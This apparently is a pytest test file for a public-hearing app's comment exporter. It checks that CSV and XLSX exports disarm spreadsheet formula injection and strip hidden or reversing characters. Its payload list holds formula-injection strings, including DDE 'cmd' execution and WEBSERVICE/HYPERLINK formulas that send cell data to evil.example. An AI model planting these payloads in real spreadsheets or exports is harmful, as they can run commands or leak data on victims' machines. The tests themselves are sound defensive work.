"""Exports: no text acts as a formula, numbers stay numbers, and the machine's file holds every word."""

from __future__ import annotations

import base64
import csv
import io
import json
import unicodedata
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from hearing_app.documents.exports import COLUMNS, FORMATS, MEDIA_TYPES, csv_bytes, safe_cell, write_export
from hearing_app.documents.text import visible
from hearing_app.hearings.comments.comment import Comment
from hearing_app.record.checkpoint import Signer, read_checkpoint
from hearing_app.record.ledger import Head

MakeComment = Callable[..., Comment]

_CORE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    '=WEBSERVICE("https://evil.example/"&A1)',
    '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
    '=DDE("cmd";"/C calc";"1")',
    "|cmd",
    "%0A=1+1",
    "-2+3+cmd|' /C calc'!D2",
)
_BEFORE = (
    "",
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\v",
    "\f",
    "\0",
    "\x1f",
    "\x85",
    "\u00a0",
    "\u1680",
    "\u2003",
    "\u2009",
    "\u2028",
    "\u202f",
    "\u3000",
    "\u200b",
    "\u200e",
    "\u202e",
    "\u2060",
    "\u00ad",
    "\ufeff",
    "\u200b \u00a0\u200d",
)
_WIDE = ("＝1+1", "＋1", "－1", "＠SUM(1)", "％x", "｜x", "﹦1+1", "﹢1", "﹣1", "﹫SUM(1)", "⁼1", "−1+1")
FORMULAS = [before + core for before in _BEFORE for core in (_CORE if not before else _CORE[:4])] + [
    before + wide for before in ("", " ", "\u200b") for wide in _WIDE
]
DANGEROUS = set("=+-@|%−")


def first_seen(text: str) -> str:
    """The first sign that is neither blank nor invisible, in its ordinary width."""
    for sign in text:
        if not sign.isspace() and unicodedata.category(sign) not in {"Cc", "Cf", "Zs", "Zl", "Zp"}:
            return unicodedata.normalize("NFKC", sign)[0]
    return ""


def rows_of(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def test_there_are_enough_payloads() -> None:
    assert len(set(FORMULAS)) == len(FORMULAS) > 140


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_cell_begins_like_a_formula(payload: str) -> None:
    cell = safe_cell(payload)
    assert isinstance(cell, str)
    assert first_seen(cell) not in DANGEROUS
    assert cell[0] not in "\t\r\0"
    # Apostrophes are put in, and nothing else is touched.
    assert cell.replace("'", "") == payload.replace("'", "")
    assert cell.count("'") - payload.count("'") in {1, 2}


@pytest.mark.parametrize("first", ["\t", "\r", "\0"])
def test_signs_that_act_at_once_do_not_begin_a_cell(first: str) -> None:
    assert safe_cell(f"{first}words") == f"'{first}words"


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("text", ['a"\n"=1+1', 'b;"=1+1', '"=1+1"', 'c\t""@SUM(1)'])
def test_a_quote_hides_no_formula_from_a_reader_with_another_separator(text: str, separator: str) -> None:
    written = csv_bytes(["a", "b"], [["words", text]]).decode("utf-8-sig")
    rows = csv.reader(io.StringIO(written, newline=""), delimiter=separator)
    assert [cell for row in rows for cell in row if first_seen(cell) in DANGEROUS] == []


@given(st.text(alphabet=st.one_of(st.characters(), st.sampled_from("=+-@|%＝\t\r\n \u200b\ufeff\u3000"))))
def test_whatever_is_typed_no_cell_begins_like_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str)
    assert cell.replace("'", "") == text.replace("'", "")
    assert first_seen(cell) not in DANGEROUS
    assert cell[:1] not in {"\t", "\r", "\0"}


@pytest.mark.parametrize(
    "text", ["", "Words", "5 % of people", "1.5", "'quoted'", "é", "(x)", "a=b", "  word"]
)
def test_other_text_is_not_changed(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [0, -1, 1.5, -0.25, None, 10**12])
def test_numbers_are_not_touched(number: float | None) -> None:
    assert safe_cell(number) is number


def test_a_csv_of_comments_holds_no_formula_in_any_text(written: MakeComment) -> None:
    comments = [
        written(
            concern=payload,
            value_seen=payload,
            ask=payload,
            display_name=payload,
            reason_note=payload,
            language_declared=payload,
            evidence=[{"url": "https://example.org/", "title": payload}],
            pinned={"query": payload, "version": payload, "sentence": payload},
            language_confidence=-0.25,
        )
        for payload in FORMULAS
    ]
    heading, *rows = rows_of(write_export(comments, "csv"))
    assert tuple(heading) == COLUMNS
    assert len(rows) == len(FORMULAS)
    for row, payload in zip(rows, FORMULAS, strict=True):
        cells = dict(zip(heading, row, strict=True))
        for name, cell in cells.items():
            if name != "language_confidence":
                assert first_seen(cell) not in DANGEROUS, (name, cell)
        assert cells["concern"] == safe_cell(visible(payload))
        assert cells["language_confidence"] == "-0.25"
        assert cells["system_version"] == "1"


def test_a_csv_cell_cannot_begin_another(written: MakeComment) -> None:
    trick = 'a","=1+1","\r\n"=1+1"\r\n=1+1,'
    heading, row, *more = rows_of(write_export([written(concern=trick)], "csv"))
    assert more == []
    assert len(row) == len(heading)
    assert dict(zip(heading, row, strict=True))["concern"].replace("'", "") == visible(trick)


def test_xlsx_holds_text_as_text_and_numbers_as_numbers(written: MakeComment) -> None:
    payloads = [text for text in FORMULAS if not any(unicodedata.category(c) == "Cc" for c in text)]
    payloads += ["https://example.org", "mailto:a@b.example", "{=1+1}", "1", "TRUE", "2026-01-01", "#REF!"]
    comments = [
        written(concern=text, ask=text, display_name=text, system_version=7, language_confidence=0.75)
        for text in payloads
    ]
    book = openpyxl.load_workbook(io.BytesIO(write_export(comments, "xlsx")))
    assert book.sheetnames == ["Comments"]
    rows = list(book["Comments"].iter_rows())
    assert [cell.value for cell in rows[0]] == list(COLUMNS)
    assert len(rows) == 1 + len(payloads)
    numbers = {"system_version": 7, "language_confidence": 0.75}
    for row, text in zip(rows[1:], payloads, strict=True):
        for name, cell in zip(COLUMNS, row, strict=True):
            assert cell.data_type == ("n" if name in numbers or cell.value is None else "s"), (
                name,
                cell.value,
            )
            assert cell.hyperlink is None
            if name in numbers:
                assert cell.value == numbers[name]
        assert row[COLUMNS.index("concern")].value == visible(text)


def test_xlsx_of_control_characters_can_be_opened(written: MakeComment) -> None:
    hostile = "a\x00b\x07c\x1bd\ufffee\t\r\nf"
    book = openpyxl.load_workbook(io.BytesIO(write_export([written(concern=hostile)], "xlsx")))
    cell = book["Comments"].cell(2, COLUMNS.index("concern") + 1)
    assert cell.data_type == "s"
    assert str(cell.value).startswith("a")
    assert str(cell.value).endswith("f")


@given(
    st.text(alphabet=st.characters(exclude_categories=["Cs"])),
    st.text(alphabet=st.characters(exclude_categories=["Cs"])),
)
def test_json_lines_hold_every_sign_exactly(written: MakeComment, concern: str, title: str) -> None:
    comment = written(concern=concern, evidence=[{"url": "https://example.org/", "title": title}])
    content = write_export([comment, comment], "jsonl")
    lines = content.decode("utf-8").split("\n")
    assert lines.pop() == ""
    assert len(lines) == 2
    read = json.loads(lines[0])
    assert read["concern"] == concern
    assert read["evidence"] == [{"url": "https://example.org/", "title": title}]


def test_json_lines_hold_every_field(written: MakeComment) -> None:
    pinned = {"query": "by=race", "figures": [{"value": 0.4484679665738162, "low": None}]}
    comment = written(pinned=pinned, language_declared="cy", reason_note="=1+1")
    read: dict[str, Any] = json.loads(write_export([comment], "jsonl"))
    assert set(read) == {*Comment.__dataclass_fields__, "language", "slot"}
    assert read["pinned"] == pinned
    assert read["standing"] == ["researcher", "lives_in_area"]
    assert read["language"] == "cy"
    assert read["language_detected"] == "en"
    assert read["reason_note"] == "=1+1"
    assert read["submitted_at"] == "2026-06-01T12:00:00.000250Z"


def test_a_table_holds_what_people_ask_of_an_export(written: MakeComment) -> None:
    comment = written(
        evidence=[
            {"url": "https://example.org/a", "title": "A report"},
            {"url": "https://example.org/b", "title": ""},
        ],
        pinned={"query": "dataset=x&by=race", "version": "sha256:ab", "sentence": "Of 100 people, 45."},
        state_at=datetime(2026, 6, 2, tzinfo=UTC),
    )
    heading, row = rows_of(write_export([comment], "csv"))
    cells = dict(zip(heading, row, strict=True))
    assert cells["comment_id"] == "C-2026-ABCDEF7"
    assert cells["stance"] == "oppose"
    assert cells["standing"] == "researcher; lives_in_area"
    assert cells["evidence"] == "A report https://example.org/a\nhttps://example.org/b"
    assert cells["pinned_selection"] == "dataset=x&by=race"
    assert cells["pinned_data"] == "sha256:ab"
    assert cells["pinned_finding"] == "Of 100 people, 45."
    assert cells["state_at"] == "2026-06-02T00:00:00.000000Z"
    assert cells["language"] == "en"


def test_tables_leave_out_what_hides_or_reverses_and_the_machines_file_does_not(
    written: MakeComment,
) -> None:
    typed = "photo\u202egpj.exe pay\u200bpal \u2066x\u2069 می\u200cخواهم \x1b[31m"
    comment = written(concern=typed, display_name="\u202eeve")
    heading, row = rows_of(write_export([comment], "csv"))
    book = openpyxl.load_workbook(io.BytesIO(write_export([comment], "xlsx")))
    sheet = dict(zip(heading, (cell.value for cell in list(book["Comments"].iter_rows())[1]), strict=True))
    for cells in (dict(zip(heading, row, strict=True)), sheet):
        assert cells["concern"] == "photogpj.exe paypal x می\u200cخواهم [31m"
        assert cells["display_name"] == "eve"
    assert json.loads(write_export([comment], "jsonl"))["concern"] == typed


@pytest.mark.parametrize("form", FORMATS)
def test_the_slot_stands_beside_its_comment_as_a_number(written: MakeComment, form: str) -> None:
    speaking, silent = written(), written(comment_id="C-2026-ABCDEF8")
    content = write_export([speaking, silent], form, slots={speaking.comment_id: 12})
    if form == "jsonl":
        assert [json.loads(line)["slot"] for line in content.splitlines()] == [12, None]
        return
    book = openpyxl.load_workbook(io.BytesIO(content)).active if form == "xlsx" else None
    rows = [list(row) for row in book.values] if book else rows_of(content)
    found = [row[COLUMNS.index("slot")] for row in rows[1:]]
    assert found == ([12, None] if form == "xlsx" else ["12", ""])


def test_an_export_of_nothing_still_has_its_heading() -> None:
    assert rows_of(write_export([], "csv")) == [list(COLUMNS)]
    sheet = openpyxl.load_workbook(io.BytesIO(write_export([], "xlsx")))["Comments"]
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [list(COLUMNS)]
    assert write_export([], "jsonl") == b""


def test_every_format_has_its_media_type() -> None:
    assert set(FORMATS) == set(MEDIA_TYPES)


def test_a_csv_reads_back_as_it_was_written() -> None:
    cells: list[str | int | float | None] = ["a,b", 'say "x"', "two\nlines", "é", 3, 0.1, None]
    content = csv_bytes(["a"] * 7, [cells])
    assert rows_of(content)[1] == ["a,b", 'say "x"', "two\nlines", "é", "3", "0.1", ""]
    assert content.endswith(b"\r\n")


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("lead", ["a;", "a;;  ", "a\n", "a\r\n", "a\t", "a\u2028", "a\x85", 'a";', "a\x0b"])
def test_no_separator_of_any_country_makes_a_formula(separator: str, lead: str) -> None:
    content = csv_bytes(["a", "b"], [[f"{lead}=HYPERLINK(1)", f"{lead} +cmd"]]).decode("utf-8-sig")
    for line in content.splitlines():
        cells = next(csv.reader([line], delimiter=separator), [])
        assert [cell for cell in cells if cell.lstrip(' "')[:1] in set("=+-@")] == []


@pytest.mark.parametrize("form", FORMATS)
def test_the_checkpoint_stands_beside_the_first_comment_and_can_be_read_back(
    written: MakeComment, form: str
) -> None:
    signer = Signer.of(bytes(range(32)))
    # A root whose base64 begins with a sign that a spreadsheet would take for a formula.
    state = Head(7, b"\xf8" + bytes(31))
    content = write_export([written(), written()], form, signer.checkpoint(state))
    if form == "jsonl":
        first, second = (json.loads(line) for line in content.splitlines())
        text, other = first["record_checkpoint"], second.get("record_checkpoint", "")
    else:
        book = openpyxl.load_workbook(io.BytesIO(content)).active if form == "xlsx" else None
        rows = [list(row) for row in book.values] if book else rows_of(content)
        text, other = (str(row[COLUMNS.index("record_checkpoint")] or "") for row in rows[1:3])
        text = base64.b64decode(text, validate=True).decode()
    assert read_checkpoint(text, signer.public_key) == state
    assert not other
